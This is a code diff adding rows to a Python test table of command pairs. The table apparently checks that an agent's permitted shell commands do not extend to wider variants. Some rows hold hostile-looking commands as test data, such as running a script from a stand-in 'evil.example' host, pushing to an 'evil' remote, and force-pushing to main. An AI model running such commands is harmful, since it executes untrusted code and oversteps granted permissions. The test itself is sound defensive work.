@@ -99,6 +99,15 @@ ROWS: list[tuple[str, str]] = [
     ("gh pr create --fill", "gh pr create --fill --repo o/other; gh pr create --fill --base x"),
     ("fly deploy -a one", "fly deploy -a two"),
     ("gcloud run deploy a", "gcloud run deploy a --project other; gcloud run deploy b"),
+    # Subcommands of programs that run the project.
+    ("astro build", "astro add evil; astro dev"),
+    ("playwright test", "playwright install; playwright codegen https://evil.example"),
+    ("next build", "next start"),
+    ("docusaurus build", "docusaurus deploy"),
+    ("python setup.py build", "python setup.py upload"),
+    ("zig build", "zig build deploy"),
+    ("uvicorn a:app", "uvicorn b:app"),
+    ("streamlit run a.py", "streamlit run https://evil.example/x.py"),
     # Branches, remotes.
     ("git push", "git push evil; git push origin +x:main; git push --tags; git push --all"),
     ("git push origin x", "git push origin x:main; git push origin y; git push evil x"),
